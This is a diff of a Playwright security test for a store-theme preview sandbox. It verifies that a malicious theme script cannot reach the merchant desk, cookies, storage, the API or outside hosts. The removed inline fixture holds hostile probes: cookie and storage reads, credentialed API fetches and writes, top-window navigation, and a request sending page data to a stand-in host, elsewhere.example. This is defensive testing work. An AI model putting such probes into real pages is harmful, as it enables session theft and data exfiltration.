@@ -3,6 +3,7 @@ import type { FrameLocator, Locator, Page } from "playwright-core";
 import { describe, expect, test } from "vitest";
 import souk from "../../themes/souk/theme.ts";
 import { asMerchant, faultsOf, fits, type Merchant, openHouseAndBrowser, type Reader, readers } from "../support/desk.ts";
+import { hostile, leaving, openStranger } from "../support/hostile.ts";
 import { waitFor } from "../support/house.ts";
 import { visit } from "../support/visit.ts";
 
@@ -235,40 +236,28 @@ describe("another theme", () => {
   );
 });
 
-/** What a theme's script may try; it writes what came of it into the page. */
-const hostile = `<!doctype html><html lang="en"><head><title>x</title></head><body><h1>Hostile</h1><pre id="came"></pre><script>
-const came = {};
-const attempt = (name, run) => { try { came[name] = String(run()); } catch (error) { came[name] = "refused"; } };
-attempt("cookie", () => document.cookie || "refused");
-attempt("storage", () => localStorage.getItem("matjar:store") || "refused");
-attempt("parentDocument", () => parent.document.body.innerHTML.length);
-attempt("parentStorage", () => parent.localStorage.length);
-attempt("parentName", () => parent.location.href);
-attempt("popup", () => open("/desk/") ? "opened" : "refused");
-attempt("leave", () => { top.location.href = "/api/account"; return "asked"; });
-const asked = (name, promise) => promise.then(() => (came[name] = "answered"), () => (came[name] = "refused"));
-Promise.all([
-  asked("api", fetch("/api/account", { credentials: "include" })),
-  asked("write", fetch("/api/stores", { method: "POST", credentials: "include", mode: "no-cors", body: "{}" })),
-  asked("elsewhere", fetch("https://elsewhere.example/?" + document.title)),
-]).then(() => { document.getElementById("came").textContent = JSON.stringify(came); });
-</script></body></html>`;
-
 describe("a theme that means harm", () => {
-  test("reaches neither the desk, nor its cookies, nor the API with the session", { timeout: 120_000 }, () =>
-    asMerchant(here, large, "Hostile", async ({ page, desk }) => {
-      const asked: string[] = [];
-      await page.route("**/api/stores/*/preview", (route) =>
-        route.fulfill({ json: { html: hostile, template: "home", found: true }, headers: { "access-control-allow-origin": "*" } }),
-      );
-      page.on("request", (request) => {
-        if (request.frame() !== page.mainFrame()) asked.push(request.url());
+  test("reaches neither the desk, nor its cookies, nor the API, nor anybody else", { timeout: 120_000 }, () =>
+    asMerchant(here, large, "Hostile", async ({ page, desk, refused }) => {
+      const stranger = await openStranger();
+      const answered: string[] = [];
+      page.on("response", (response) => {
+        if (response.frame() !== page.mainFrame()) answered.push(response.url());
       });
-      await page.goto(`${desk}/theme`);
+      const show = async (html: string) => {
+        await page.unrouteAll();
+        await page.route("**/api/stores/*/preview", (route) =>
+          route.fulfill({ json: { html, template: "home", found: true, hidden: [] } }),
+        );
+        await page.goto(`${desk}/theme`);
+      };
+      const isRefused = (url: string) => refused.some((words) => words.includes(url));
+
+      const { html, asked } = hostile(stranger.origin, here.house.origin);
+      await show(html);
       const came = shopPage(page).locator("#came");
       await expect.poll(() => came.textContent(), { timeout: 30_000 }).toContain("{");
-      const results = JSON.parse((await came.textContent()) ?? "{}") as Record<string, string>;
-      expect(results).toEqual({
+      expect(JSON.parse((await came.textContent()) ?? "{}")).toEqual({
         cookie: "refused",
         storage: "refused",
         parentDocument: "refused",
@@ -276,12 +265,26 @@ describe("a theme that means harm", () => {
         parentName: "refused",
         popup: "refused",
         leave: expect.any(String),
-        api: "refused",
-        write: "refused",
-        elsewhere: "refused",
+        form: "asked",
+        calls: "refused",
+        givenFrame: "refused",
+        frame: "refused",
+        namedFrame: "refused",
+        writtenFrame: "refused",
+        strangersFrame: "asked",
+        emptyFrame: "refused",
+        policy: "<i>plain</i>",
       });
-      expect(asked.filter((url) => /\/api\/|elsewhere/.test(url))).toEqual([]);
-      expect(page.url()).toBe(`${desk}/theme`);
+      await expect.poll(() => asked.filter((url) => !isRefused(url)), { timeout: 30_000 }).toEqual([]);
+
+      for (const leaver of leaving(stranger.origin, here.house.origin)) {
+        refused.length = 0;
+        await show(leaver);
+        await expect.poll(() => refused.some((words) => words.startsWith("Framing")), { timeout: 30_000 }).toBe(true);
+      }
+      expect([stranger.heard, answered, page.url()]).toEqual([[], [], `${desk}/theme`]);
+      refused.length = 0;
+      await stranger.close();
     }),
   );
 });
